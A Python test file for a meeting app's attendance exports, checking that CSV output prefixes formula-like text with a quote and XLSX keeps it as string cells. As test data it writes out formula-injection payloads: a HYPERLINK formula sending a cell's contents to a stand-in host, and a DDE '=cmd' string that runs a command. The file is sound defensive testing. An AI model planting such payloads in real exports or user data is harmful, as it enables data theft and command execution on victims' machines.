"""Exports against formula injection: a name a spreadsheet would run is neutralised in CSV and stays text in XLSX."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl

from phienhop.server.exports import Table, to_csv

from ..support import small_agenda

HYPERLINK = '=HYPERLINK("http://ke-xau.example/?d="&A1,"Bấm vào đây")'
NAMES = {"tv-1": HYPERLINK, "tv-2": "+84 Trần Văn Cộng", "tv-3": "-Lê Văn Trừ", "tv-4": "@SUM(A1:A9)"}


def _session(server):
    agenda = small_agenda()
    for person in agenda["people"]:
        person["name"] = NAMES.get(person["id"], person["name"])
    agenda["people"][2]["position"] = "=1+1"  # tv-1's position too
    s = server.create(agenda)
    s.ok(s.chair, type="attendance.mark", person="tv-1", status="absent", reason="=cmd|' /C calc'!A0")
    return s


def _download(server, s, name: str):
    r = server.http.get(f"/api/sessions/{s.id}/export/{name}", headers={"Authorization": f"Bearer {s.secretary}"})
    assert r.status_code == 200, r.text
    return r.content


def test_csv_export_neutralises_formula_text_with_a_quote(server):
    """attendance.csv writes a name, position or reason beginning with =, +, - or @ with a leading ' (OWASP), others as they are."""
    s = _session(server)
    rows = list(csv.reader(io.StringIO(_download(server, s, "attendance.csv").decode("utf-8-sig"), newline="")))
    by_id = {row[1]: row for row in rows[1:]}
    assert by_id["tv-1"][2:7] == ["'" + HYPERLINK, "'=1+1", "Hội trường", "Vắng mặt", "'=cmd|' /C calc'!A0"]
    assert [by_id[p][2] for p in ("tv-2", "tv-3", "tv-4")] == ["'+84 Trần Văn Cộng", "'-Lê Văn Trừ", "'@SUM(A1:A9)"]
    assert by_id["chu-toa"][2] == "Nguyễn Văn Chủ"


def test_xlsx_export_writes_formula_text_as_string_cells(server):
    """attendance.xlsx keeps =HYPERLINK(...) and the rest as they are, as string cells: the workbook holds no formula."""
    s = _session(server)
    content = _download(server, s, "attendance.xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    by_id = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
    cells = [by_id["tv-1"][2], by_id["tv-1"][3], by_id["tv-1"][6]] + [by_id[p][2] for p in ("tv-2", "tv-3", "tv-4")]
    assert [(c.value, c.data_type) for c in cells] == [
        (HYPERLINK, "s"), ("=1+1", "s"), ("=cmd|' /C calc'!A0", "s"),
        ("+84 Trần Văn Cộng", "s"), ("-Lê Văn Trừ", "s"), ("@SUM(A1:A9)", "s")]


def test_csv_neutralises_a_leading_tab_or_carriage_return_and_leaves_numbers():
    """Text beginning with a tab or CR (which no agenda or command lets in today) gets the quote too; numbers never do."""
    table = Table(title="t", columns=["a", "b", "c", "d"], rows=[["\t=1+1", "\r=1+1", -3, "a-b"]])
    assert to_csv(table).decode("utf-8-sig").split("\r\n")[1] == "'\t=1+1,\"'\r=1+1\",-3,a-b"
